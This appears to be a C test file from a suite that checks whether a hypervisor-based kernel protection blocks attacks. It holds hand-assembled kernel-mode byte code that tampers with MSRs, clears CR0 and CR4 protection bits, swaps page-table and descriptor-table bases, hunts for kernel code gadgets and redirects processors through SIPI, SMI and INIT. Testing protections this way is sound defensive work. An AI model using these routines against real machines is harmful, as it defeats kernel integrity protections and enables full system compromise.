/* The processor's own state, changed by code of the attacker's in kernel mode. */
#include "tests/attacks/attack.h"

/* Runs code (RDI, RSI: arguments) from a kernel page made executable for the time. */
static LONG run(const void *code, size_t bytes, uint64_t a, uint64_t b, uint64_t *result)
{
	uint64_t va = scratch(), was;
	LONG st;

	kwrite(va, code, bytes);
	st = entry_change(va, PTE_NX | PTE_W, 0, &was);
	if (st)
		return st;
	st = kcall(va, a, b, 0, 0, result);
	entry_restore(va, was);
	return st;
}
#define RUN(code, a, b, result) run(code, sizeof(code), a, b, result)

/* ---- MSRs ---- */
static const uint8_t rdmsr_code[] = {0x89, 0xf9,	     /* mov %edi, %ecx */
				     0x0f, 0x32,	     /* rdmsr */
				     0x48, 0xc1, 0xe2, 0x20, /* shl $32, %rdx */
				     0x48, 0x09, 0xd0,	     /* or %rdx, %rax */
				     0xc3};
static const uint8_t wrmsr_code[] = {0x89, 0xf9,	     /* mov %edi, %ecx */
				     0x89, 0xf0,	     /* mov %esi, %eax */
				     0x48, 0x89, 0xf2,	     /* mov %rsi, %rdx */
				     0x48, 0xc1, 0xea, 0x20, /* shr $32, %rdx */
				     0x0f, 0x30,	     /* wrmsr */
				     0xc3};

static enum outcome msr(uint32_t index, uint64_t flip)
{
	uint64_t was, now, unused;
	LONG st;

	if (RUN(rdmsr_code, index, 0, &was))
		return REFUSED;
	st = RUN(wrmsr_code, index, was ^ flip, &unused);
	if (RUN(rdmsr_code, index, 0, &now))
		return FAILED;
	if (now == was)
		return st ? REFUSED : FAILED;
	note("msr");
	RUN(wrmsr_code, index, was, &unused);
	return now == (was ^ flip) && st == 0 ? SUCCEEDED : FAILED;
}

static enum outcome lstar(void) /* the next byte: never called meanwhile, or it would be */
{
	/* LSTAR is used by each system call: set and restored with interrupts off in one piece. */
	static const uint8_t both[] = {0x9c, 0xfa,		     /* pushfq; cli */
				       0xb9, 0x82, 0x00, 0x00, 0xc0, /* mov $LSTAR, %ecx */
				       0x0f, 0x32,		     /* rdmsr */
				       0x41, 0x89, 0xc0,	     /* mov %eax, %r8d */
				       0x83, 0xf0, 0x40,	     /* xor $0x40, %eax */
				       0x0f, 0x30,		     /* wrmsr */
				       0x0f, 0x32,		     /* rdmsr */
				       0x41, 0x89, 0xc1,	     /* mov %eax, %r9d */
				       0x44, 0x89, 0xc0,	     /* mov %r8d, %eax */
				       0x0f, 0x30,		     /* wrmsr */
				       0x45, 0x31, 0xc8,	     /* xor %r9d, %r8d */
				       0x44, 0x89, 0xc0,	     /* mov %r8d, %eax */
				       0x9d, 0xc3};		     /* popfq; ret */
	uint64_t result = 0;
	LONG st = RUN(both, 0, 0, &result);

	return st ? REFUSED : (uint32_t)result == 0x40 ? SUCCEEDED : FAILED;
}

static enum outcome star(void)
{
	return msr(0xc0000083, 0x1000); /* CSTAR: nothing uses it */
}

static enum outcome sysenter(void)
{
	return msr(0x176, 0x1000);
}

static enum outcome efer_nx(void) /* without NX every page is executable */
{
	static const uint8_t off_on[] = {0x9c, 0xfa,		       /* pushfq; cli */
					 0xb9, 0x80, 0x00, 0x00, 0xc0, /* mov $EFER, %ecx */
					 0x0f, 0x32,		       /* rdmsr */
					 0x41, 0x89, 0xc0,	       /* mov %eax, %r8d */
					 0x83, 0xf0, 0x01,	       /* xor $SCE, %eax */
					 0x0f, 0x30,		       /* wrmsr */
					 0x0f, 0x32,		       /* rdmsr */
					 0x41, 0x89, 0xc1,	       /* mov %eax, %r9d */
					 0x44, 0x89, 0xc0,	       /* mov %r8d, %eax */
					 0x0f, 0x30,		       /* wrmsr */
					 0x45, 0x31, 0xc8,	       /* xor %r9d, %r8d */
					 0x44, 0x89, 0xc0,	       /* mov %r8d, %eax */
					 0x9d, 0xc3};		       /* popfq; ret */
	uint64_t result = 0;
	LONG st = RUN(off_on, 0, 0, &result);

	return st ? REFUSED : (uint32_t)result == 1 ? SUCCEEDED : FAILED;
}

static enum outcome pat(void)
{
	return msr(0x277, 1ull << 56);
}

/* Approved code writes the MSR: what is left at hvci, where the attacker's own does not run. */
static LONG approved_wrmsr(uint32_t index, uint64_t value)
{
	uint64_t unused;

	return kcall(place(VULNERABLE_WRMSR), index, value, 0, 0, &unused);
}

static enum outcome approved_msr(void)
{
	static const uint32_t locked[] = {0xc0000080, 0xc0000081, 0xc0000082, 0xc0000084,
					  0x176,      0x277,	  0x1b};

	for (size_t i = 0; i < sizeof(locked) / sizeof(locked[0]); i++)
		if (!approved_wrmsr(locked[i], 0))
			return SUCCEEDED;
	return REFUSED;
}

/* Processor trace, told to write over a page table. Where the processor has none it is refused all
 * the same: what counts is that the host has seen it. */
static enum outcome msr_trace(void)
{
	LONG base = approved_wrmsr(0x560, place(VULNERABLE_CR3) & PTE_FRAME);
	LONG mask = approved_wrmsr(0x561, 0x7f), on = approved_wrmsr(0x570, 1);

	return base && mask && on ? REFUSED : SUCCEEDED;
}

/* Hyper-V's hypercall page and reference time: KVM writes both to any page. */
static enum outcome msr_hyperv(void)
{
	LONG os = approved_wrmsr(0x40000000, 1);
	LONG page = approved_wrmsr(0x40000001, (place(VULNERABLE_CR3) & PTE_FRAME) | 1);
	LONG time = approved_wrmsr(0x40000021, (place(VULNERABLE_CR3) & PTE_FRAME) | 1);

	return os && page && time ? REFUSED : SUCCEEDED;
}

/* ---- control registers ---- */
static const uint8_t get_cr0[] = {0x0f, 0x20, 0xc0, 0xc3};
static const uint8_t set_cr0[] = {0x0f, 0x22, 0xc7, 0xc3}; /* mov %rdi, %cr0; ret */
static const uint8_t get_cr4[] = {0x0f, 0x20, 0xe0, 0xc3};
static const uint8_t set_cr4[] = {0x0f, 0x22, 0xe7, 0xc3};

static enum outcome clear_bit(const uint8_t get[4], const uint8_t set[4], uint64_t bit)
{
	uint64_t was, now, unused;

	if (run(get, 4, 0, 0, &was))
		return REFUSED;
	if (!(was & bit))
		return FAILED; /* this CPU has not got it */
	if (run(set, 4, was & ~bit, 0, &unused))
		return REFUSED;
	if (run(get, 4, 0, 0, &now))
		return FAILED;
	note("cr");
	run(set, 4, was, 0, &unused);
	return now & bit ? FAILED : SUCCEEDED;
}

static enum outcome cr0_wp(void)
{
	return clear_bit(get_cr0, set_cr0, 1ull << 16);
}
static enum outcome cr4_smep(void)
{
	return clear_bit(get_cr4, set_cr4, 1ull << 20);
}
static enum outcome cr4_smap(void)
{
	return clear_bit(get_cr4, set_cr4, 1ull << 21);
}
static enum outcome cr4_umip(void)
{
	return clear_bit(get_cr4, set_cr4, 1ull << 11);
}

/* CR3 with a copy of the page tables' top, in which an unused slot leads to the attacker. */
static enum outcome own_cr3(void)
{
	static const uint8_t swap[] = {0x0f, 0x20, 0xd8, /* mov %cr3, %rax */
				       0x0f, 0x22, 0xdf, /* mov %rdi, %cr3 */
				       0xc3};
	static const uint8_t back[] = {0x0f, 0x20, 0xd8, /* mov %cr3, %rax */
				       0x0f, 0x22, 0xdf, /* mov %rdi, %cr3 */
				       0xc3};
	static uint64_t top[512];
	uint64_t va = scratch(), cr3 = place(VULNERABLE_CR3), was, seen = 0;

	kread(DIRECT_MAP + (cr3 & PTE_FRAME), top, sizeof(top));
	top[300] = (kphys(va + 4096) & PTE_FRAME) | PTE_P | PTE_W; /* its own page table */
	kwrite(va + 4096, top, sizeof(top));
	if (RUN(swap, kphys(va + 4096), 0, &was)) /* then the host is asked to load it */
		return khypercall(NTMM_HC_ROOT, kphys(va + 4096), 0, 0, 0) == 0 ||
			       khypercall(NTMM_HC_CR3, kphys(va + 4096), 0, 0, 0) == 0
			   ? SUCCEEDED
			   : REFUSED;
	note("own-cr3");
	if (RUN(back, cr3, 0, &seen))
		return FAILED;
	/* the scheduler may have loaded the process's own again */
	return (was & PTE_FRAME) == (cr3 & PTE_FRAME) ? SUCCEEDED : FAILED;
}

/* ---- descriptor tables ---- */
static enum outcome descriptor(const uint8_t *store, const uint8_t *load,
			       enum vulnerable_place where)
{
	struct {
		uint16_t limit;
		uint64_t base;
	} __attribute__((packed)) d, now;
	static uint8_t table[4096];
	uint64_t va = scratch(), unused, was;

	kread(place(where), table, sizeof(table));
	kwrite(va + 4096, table, 2048);
	if (run(store, 4, va + 4096 + 4000, 0, &unused))
		return REFUSED;
	kread(va + 4096 + 4000, &d, sizeof(d));
	was = d.base;
	if (where == VULNERABLE_GDT) {
		kread(d.base, table, 80);
		kwrite(va + 4096, table, 80);
	} else { /* a whole table fits into no half page: the limit is shortened */
		d.limit = 2047;
	}
	d.base = va + 4096;
	kwrite(va + 4096 + 4016, &d, sizeof(d));
	if (where == VULNERABLE_IDT) {
		/* vectors above 0x7f would be missing: only looked at, with interrupts off */
		static const uint8_t quick[] = {0x9c, 0xfa,		/* pushfq; cli */
						0x0f, 0x01, 0x1f,	/* lidt (%rdi) */
						0x0f, 0x01, 0x4e, 0x20, /* sidt 32(%rsi) */
						0x0f, 0x01, 0x1e,	/* lidt (%rsi) */
						0x9d, 0xc3};

		if (RUN(quick, va + 4096 + 4016, va + 4096 + 4000, &unused))
			return REFUSED;
		kread(va + 4096 + 4032, &now, sizeof(now));
		return now.base == va + 4096 ? SUCCEEDED : FAILED;
	}
	if (run(load, 4, va + 4096 + 4016, 0, &unused))
		return REFUSED;
	note("descriptor");
	run(store, 4, va + 4096 + 4032, 0, &unused);
	run(load, 4, va + 4096 + 4000, 0, &unused);
	kread(va + 4096 + 4032, &now, sizeof(now));
	return now.base == va + 4096 && was != now.base ? SUCCEEDED : FAILED;
}

static const uint8_t sgdt_code[] = {0x0f, 0x01, 0x07, 0xc3};
static const uint8_t lgdt_code[] = {0x0f, 0x01, 0x17, 0xc3};
static const uint8_t sidt_code[] = {0x0f, 0x01, 0x0f, 0xc3};
static const uint8_t lidt_code[] = {0x0f, 0x01, 0x1f, 0xc3};

static enum outcome own_gdt(void)
{
	return descriptor(sgdt_code, lgdt_code, VULNERABLE_GDT);
}
static enum outcome own_idt(void)
{
	return descriptor(sidt_code, lidt_code, VULNERABLE_IDT);
}

/* The kernel's own code, entered at any byte, for an instruction that loads CR0 or CR4, or asks KVM
 * for something. Nothing is run: whether there is one to jump to is the question. */
static enum outcome cr_gadget(void)
{
	static uint8_t page[4096];
	uint64_t va = place(VULNERABLE_TEXT), end = place(VULNERABLE_TEXT_END);

	for (; va < end; va += 4093) {
		size_t n = end - va < 4096 ? end - va : 4096;
		uint64_t e = entry_of(va);

		if (!e || kread64(e) & PTE_NX || kread(va, page, n))
			continue;
		for (size_t i = 0; i + 2 < n; i++)
			if (page[i] == 0x0f &&
			    ((page[i + 1] == 0x22 &&
			      ((page[i + 2] & 0x38) == 0 || (page[i + 2] & 0x38) == 0x20)) ||
			     (page[i + 1] == 1 && (page[i + 2] == 0xc1 || page[i + 2] == 0xd9))))
				return SUCCEEDED;
	}
	return REFUSED;
}

/* Real mode, in which it ends the machine with an exit code of its own. */
static const uint8_t real[] = {0xfa,				   /* cli */
			       0x66, 0xbf, 0x4d, 0x00, 0x00, 0x00, /* mov $77, %edi */
			       0x66, 0xb8, 0x01, 0x00, 0x00, 0x00, /* mov $HC_EXIT, %eax */
			       0xba, 0x74, 0x6e,		   /* mov $port, %dx */
			       0x66, 0xef,			   /* out %eax, %dx */
			       0xf4};

/* The other processor begins anew, without paging, in the attacker's code. */
static enum outcome sipi(void)
{
	const uint64_t page = 9; /* below 64 KB, where nothing is */
	uint64_t unused;

	kwrite(DIRECT_MAP + page * 4096, real, sizeof(real));
	kcall(place(VULNERABLE_SIPI), 1, page, 0, 0, &unused);
	Sleep(1000);
	return FAILED;
}

/* The other processor enters system management mode, without paging, at its address from the time
 * of reset: an interrupt of that kind comes from its local APIC (x2APIC's ICR). */
static enum outcome smi(void)
{
	const uint64_t handler = 0x38000, other = 1ull << 32, deliver_smi = 0x4200;

	kwrite(DIRECT_MAP + handler, real, sizeof(real));
	approved_wrmsr(0x830, other | deliver_smi);
	Sleep(1000);
	return FAILED;
}

/* The first processor begins anew where a reset leads: at the last 16 bytes below 4 GB. */
static enum outcome init_boot(void)
{
	const uint64_t deliver_init = 0x4500;

	SetThreadAffinityMask(GetCurrentThread(), 2);
	approved_wrmsr(0x830, deliver_init);
	Sleep(1000);
	return FAILED;
}

/* Approved code, entered where no instruction was meant to begin: `xor %eax, %eax; ret`. */
static enum outcome mid_instruction(void)
{
	static const uint8_t wanted[] = {0x31, 0xc0, 0xc3};
	static uint8_t page[4096];
	uint64_t va = place(VULNERABLE_TEXT), end = place(VULNERABLE_RODATA), result;

	for (; va < end; va += sizeof(page) - 2) {
		size_t n = end - va < sizeof(page) ? (size_t)(end - va) : sizeof(page);

		if (kread(va, page, n))
			continue;
		for (size_t i = 1; i + 2 < n; i++) /* a prefix before it: `xor %r8d, %eax` */
			if ((page[i - 1] & 0xf8) == 0x40 && memcmp(page + i, wanted, 3) == 0) {
				result = 1;
				return kcall(va + i, 7, 7, 7, 7, &result) == 0 && result == 0
					   ? SUCCEEDED
					   : FAILED;
			}
	}
	return FAILED;
}

const struct attack attacks_state[] = {
    {"lstar", lstar},
    {"cstar", star},
    {"sysenter", sysenter},
    {"efer", efer_nx},
    {"pat", pat},
    {"approved-msr", approved_msr},
    {"msr-trace", msr_trace},
    {"msr-hyperv", msr_hyperv},
    {"cr0-wp", cr0_wp},
    {"cr4-smep", cr4_smep},
    {"cr4-smap", cr4_smap},
    {"cr4-umip", cr4_umip},
    {"own-cr3", own_cr3},
    {"own-gdt", own_gdt},
    {"own-idt", own_idt},
    {"cr-gadget", cr_gadget},
    {"mid-instruction", mid_instruction},
    {"sipi", sipi},
    {"smi", smi},
    {"init", init_boot},
    {0},
};
